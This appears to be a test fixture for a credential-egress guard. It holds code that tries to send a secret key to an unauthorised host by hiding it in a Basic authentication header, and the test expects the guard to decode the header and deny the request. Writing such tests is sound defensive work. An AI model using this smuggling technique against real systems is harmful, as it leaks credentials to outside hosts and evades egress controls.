export const attempt = {
  tries: "to send an exposed value to another host within Basic authentication",
  blockedBecause: "Basic authentication is decoded and searched",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const authorization = `Basic ${btoa(`me:${credentials.KEY}`)}`;
  await fetch(`http://${other}/reached`, { headers: { authorization } });
  return "got through";
};
